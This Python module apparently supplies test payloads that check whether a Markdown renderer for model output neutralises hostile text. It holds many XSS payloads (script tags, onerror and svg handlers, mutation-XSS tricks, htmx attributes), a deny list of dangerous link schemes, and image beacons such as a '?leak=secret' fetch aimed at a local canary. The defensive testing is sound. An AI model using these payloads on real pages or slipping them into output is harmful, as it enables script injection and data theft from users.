"""Hostile text a model could say: families of attacks, spelled and placed in many ways.

`CANARY` stands for the address of a server that must hear nothing, `OWNED` for a script
that would leave a mark in the page.
"""

import itertools
from collections.abc import Callable, Iterator
from typing import Final

CANARY: Final = "http://127.0.0.1:1"
OWNED: Final = "window.owned=1"

_ELEMENTS: Final = (
    "<script>{js}</script>",
    "<script src={url}/s.js></script>",
    "<SCRIPT/XSS SRC='{url}/s.js'></SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>{js}",
    "<img src=x onerror={js}>",
    "<img src='x' onerror='{js}'",
    "<IMG SRC=x ONERROR={js}//",
    "<img/src/onerror={js}>",
    "<img src={url}/i.png>",
    "<img srcset='{url}/i.png 1x' src=x>",
    '<img """><script>{js}</script>">',
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js} />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}/>#x'/></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><image href={url}/i.svg></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror={js}&gt;'>",
    "<math href='javascript:{js}'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>{js}</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<style><img src='</style><img src=x onerror={js}>'>",
    "<style>@import '{url}/c.css';</style>",
    "<style>body{{background:url({url}/b)}}</style>",
    "<link rel=stylesheet href={url}/c.css>",
    "<link rel=preconnect href={url}>",
    "<link rel=prefetch href={url}/p>",
    "<link rel=dns-prefetch href=//canary.example>",
    "<meta http-equiv=refresh content='0;url={url}/m'>",
    "<meta http-equiv=refresh content='0;javascript:{js}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href={url}/>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src={url}/f></iframe>",
    "<object data='javascript:{js}'></object>",
    "<object data={url}/o></object>",
    "<embed src={url}/e>",
    "<applet code={url}/a></applet>",
    "<frameset onload={js}><frame src={url}/f></frameset>",
    "<body onload={js}>",
    "<html onmouseover={js}>",
    "<input autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}>x</details>",
    "<dialog open onclose={js}>x</dialog>",
    "<video autoplay src={url}/v onloadstart={js}></video>",
    "<video poster={url}/p></video>",
    "<audio src={url}/a onerror={js} autoplay></audio>",
    "<marquee onstart={js}>x</marquee>",
    "<form action={url}/f method=post><input name=a><button>x</button></form>",
    "<form id=t></form><button form=t formaction='javascript:{js}'>x</button>",
    "<isindex action='javascript:{js}' type=image>",
    "<a href='javascript:{js}'>x</a>",
    "<a ping={url}/ping href=#>x</a>",
    "<p onclick={js} style='position:fixed;inset:0'>x</p>",
    "<p style='background:url({url}/b)'>x</p>",
    "<p id=victim>gone</p>",
    "<p id=main class=toast>fake</p>",
    "<input name=attributes><img name=getElementById>",
    "<table background={url}/t><tr><td background={url}/t>x</table>",
    "<x onclick={js} tabindex=1 autofocus onfocus={js}>x</x>",
    "<!--><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version=1?><img src=x onerror={js}>",
    "<plaintext><img src=x onerror={js}>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
    "</div></article></main><img src=x onerror={js}>",
    "</code></pre></figure><img src=x onerror={js}>",
    "\x00<img src=x onerror={js}>",
    "<\x00img src=x onerror={js}>",
    "<img\x0csrc=x\x0bonerror={js}>",
    "\ufeff<img src=x onerror={js}>",
    "\u2028<img src=x onerror={js}>",
)
_HTMX: Final = (
    "<p hx-get=/owned hx-trigger=load>x</p>",
    "<p data-hx-get=/owned data-hx-trigger=load>x</p>",
    "<p hx-post=/owned hx-trigger='load delay:1ms' hx-target=#victim>x</p>",
    "<p hx-delete=/owned hx-trigger=revealed>x</p>",
    "<p hx-get=/owned hx-trigger='every 10ms'>x</p>",
    "<p hx-trigger='load[{js}]' hx-get=/owned>x</p>",
    "<p hx-on:htmx:load='{js}'>x</p>",
    "<p hx-on::load='{js}'>x</p>",
    "<p hx-on='htmx:load: {js}'>x</p>",
    "<p hx-vals='js:{{a: {js}}}' hx-get=/owned hx-trigger=load>x</p>",
    "<p hx-vars='a:{js}' hx-get=/owned hx-trigger=load>x</p>",
    "<p hx-headers='js:{{a: {js}}}' hx-get=/owned hx-trigger=load>x</p>",
    "<p hx-swap-oob=true id=victim>gone</p>",
    "<p hx-swap-oob='innerHTML:#victim'>gone</p>",
    "<p data-hx-swap-oob='outerHTML:#victim'>gone</p>",
    "<template><p id=victim hx-swap-oob=true>gone</p></template>",
    "<hx-partial hx-target=#victim>gone</hx-partial>",
    "<p hx-ext=sse sse-connect={url}/sse sse-swap=message>x</p>",
    "<p sse-swap=toast hx-swap=outerHTML>x</p>",
    "<p hx-boost=true><a href=/owned>x</a></p>",
    "<p hx-preserve id=victim>gone</p>",
    "<p hx-include=* hx-post=/owned hx-trigger=load>x</p>",
    "<p hx-request='{{\"credentials\": true}}' hx-get={url}/x hx-trigger=load>x</p>",
    "<title>owned</title>",
    "<p hx-history-elt hx-push-url=/owned>x</p>",
    "<button data-copy=#victim data-copy-from=/owned>x</button>",
)
_LINKS: Final = (
    "[x](javascript:{js})",
    "[x](<javascript:{js}>)",
    "[x](JaVaScRiPt:{js})",
    "[x](java\tscript:{js})",
    "[x](&#106;avascript:{js})",
    "[x](&#x6A;avascript&colon;{js})",
    "[x](javascript&NewLine;:{js})",
    "[x](\\x01javascript:{js})",
    "[x](vbscript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:{url}/x)",
    "[x](view-source:{url}/x)",
    "[x](/owned)",
    "[x](//canary.example/x)",
    "[x](\\\\\\\\canary.example\\\\share)",
    '[x]({url}/x "\\" onmouseover={js} \\"")',
    "[x]({url}/x'onmouseover='{js})",
    "<javascript:{js}>",
    "<{url}/auto>",
    "![x](javascript:{js})",
    "![x]({url}/i.png)",
    "![x](<{url}/i .png>)",
    "![x](data:image/svg+xml,<svg onload={js}>)",
    '![x" onerror="{js}]({url}/i.png)',
    '![x]({url}/i.png "\\" onerror=\\"{js}")',
    "[![x]({url}/i.png)]({url}/a)",
    "![x][ref]\n\n[ref]: {url}/i.png",
    "[x][bad]\n\n[bad]: javascript:{js}",
    "[x]: {url}/i.png\n\n![x]",
    "[a]: {url}/a '\"><img src=x onerror={js}>'\n\n[a]",
)
_FENCES: Final = (
    "```html\n<img src=x onerror={js}>\n```",
    "```<img/src=x/onerror={js}>\nx\n```",
    '```"><script>{js}</script>\nx\n```',
    "~~~ js onload={js}\n</code></pre><img src=x onerror={js}>\n~~~",
    "    <img src=x onerror={js}>",
    "```python\n</samp></code><img src=x onerror={js}>",
    "`<img src=x onerror={js}>`",
    "``` `<img src=x onerror={js}>\n```",
    "```php\n<?php echo '<img src=x onerror={js}>' ?>\n```",
    "```svg\n<svg onload={js}></svg>\n```",
)
FORBIDDEN_LINKS: Final = (
    "file:///etc/passwd",
    "file://host/share",
    "file:",
    "smb://host/share",
    "nfs://host/x",
    "afp://host/x",
    "dav://host/x",
    "sftp://host/x",
    "ftp://host/x",
    "ssh://host",
    "telnet://host",
    "rdp://host",
    "vnc://host",
    "ldap://host/x",
    "gopher://host/x",
    "ms-msdt:/id PCWDiagnostic",
    "ms-settings:privacy",
    "ms-officecmd:x",
    "ms-word:ofe|u|http://host/x",
    "ms-excel:ofv|u|http://host/x",
    "ms-appinstaller:?source=http://host/x",
    "ms-search:query=x",
    "search-ms:query=x&crumb=location:\\\\\\\\host",
    "ms-cxh-full:x",
    "microsoft-edge:http://host",
    "shell:startup",
    "jar:http://host/x!/",
    "javascript:window.owned=1",
    "JAVASCRIPT:window.owned=1",
    " javascript:window.owned=1",
    "java\\nscript:window.owned=1",
    "vbscript:x",
    "data:text/html,<script>window.owned=1</script>",
    "blob:http://127.0.0.1/x",
    "filesystem:http://127.0.0.1/x",
    "view-source:http://host/",
    "chrome://settings",
    "chrome-extension://x/y",
    "devtools://devtools/x",
    "about:blank#x",
    "about:srcdoc",
    "qrc:/x",
    "qrc:///qtwebchannel/qwebchannel.js",
    "ws://host/",
    "wss://host/",
    "tel:+123",
    "sms:+123",
    "facetime:x",
    "steam://run/1",
    "zoommtg://host/join",
    "slack://open",
    "vscode://file/etc/passwd",
    "itms-services://?action=x",
    "intent://host#Intent;scheme=http;end",
    "magnet:?xt=x",
    "bitcoin:x",
    "irc://host",
    "news:x",
    "res://x/y",
    "mk:@MSITStore:x",
    "x-apple.systempreferences:x",
    "mailto:a@b.example?attach=/etc/passwd",
    "http://user:word@host.example/",
    "https://host.example:99999/",
)


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _numbered(text: str) -> str:
    return text.replace("<", "&#x3C;").replace(">", "&#62;")


_SPELLINGS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    _entities,
    _numbered,
    lambda text: text.replace("<", "\\<"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
)
_PLACES: Final = (
    "{}",
    "> {}",
    "- {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "[{}](https://example.com)",
    "![{}](https://example.com/a.png)",
    "**{}** _and_ ~~{}~~",
)


def _filled(forms: tuple[str, ...], url: str) -> list[str]:
    return [form.format(js=OWNED, url=url) for form in forms]


def payloads(url: str = CANARY) -> list[str]:
    """Return every payload that leaves the Markdown after it as it is."""
    return list(dict.fromkeys(_combined(url)))


def fenced(url: str = CANARY) -> list[str]:
    """Return payloads in and around code, which may swallow what follows."""
    return _filled(_FENCES, url)


def _combined(url: str) -> Iterator[str]:
    elements = _filled(_ELEMENTS + _HTMX, url)
    for element, place in itertools.product(elements, _PLACES[:5]):
        yield place.replace("{}", element)
    for element, place in itertools.product(elements[::9], _PLACES[5:]):
        yield place.replace("{}", element)
    for element, spelled in itertools.product(elements[::4], _SPELLINGS[1:]):
        yield spelled(element)
    yield from _filled(_LINKS, url)


def remote_fetches(url: str) -> list[str]:
    """Return sixty ways to make a page ask a server for something."""
    markdown = [form for form in _LINKS if "{url}" in form]
    elements = [form for form in (*_ELEMENTS, *_HTMX) if "{url}" in form]
    more = (
        "![]({url}/empty.png)",
        "![x]({url}/q.png?leak=secret)",
        "![x](  {url}/spaces.png  )",
        "> ![x]({url}/quote.png)",
        "- ![x]({url}/item.png)",
        "| ![x]({url}/cell.png) |\n|---|\n| ![x]({url}/cell2.png) |",
        "# ![x]({url}/heading.png)",
        "**![x]({url}/bold.png)**",
        "![x]( <{url}/angle.png> 'title' )",
        "![a][full]\n\n[full]: <{url}/full.png> 'title'",
        "![collapsed][]\n\n[collapsed]: {url}/collapsed.png",
        "![short]\n\n[short]: {url}/short.png",
        "![x](&#104;ttp://127.0.0.1:1/entity.png)",
        "![x](//127.0.0.1:1/scheme.png)",
        "![x](HTTP://127.0.0.1:1/upper.png)",
        "![x](ftp://127.0.0.1:1/ftp.png)",
        "![x](ws://127.0.0.1:1/ws)",
        "{url}/bare.png",
        "<img src='{url}/i.png' loading=eager>",
        "<picture><source srcset={url}/s.png><img src={url}/i.png></picture>",
        "<video><source src={url}/v><track src={url}/t default></video>",
        "<link rel=icon href={url}/icon>",
        "<link rel=modulepreload href={url}/m.js>",
        "<link rel=manifest href={url}/manifest>",
        "<link rel=preload as=image href={url}/p.png>",
        "<p style='list-style-image:url({url}/l)'>x</p>",
        "<p style='background:image-set(url({url}/set) 1x)'>x</p>",
        "<style>@font-face{{font-family:x;src:url({url}/font)}}*{{font-family:x}}</style>",
        "<svg><image href={url}/i /><use href={url}/u#a /></svg>",
        "<svg><feImage href={url}/fe /></svg>",
        "<svg><rect fill='url({url}/fill#a)'/></svg>",
        "<input type=image src={url}/button>",
        "<script type=speculationrules>"
        '{{"prefetch":[{{"urls":["{url}/spec"]}}]}}</script>',
    )
    port = url.rpartition(":")[2]
    found = _filled((*markdown, *elements, *more), url)
    return [text.replace("127.0.0.1:1/", f"127.0.0.1:{port}/") for text in found]
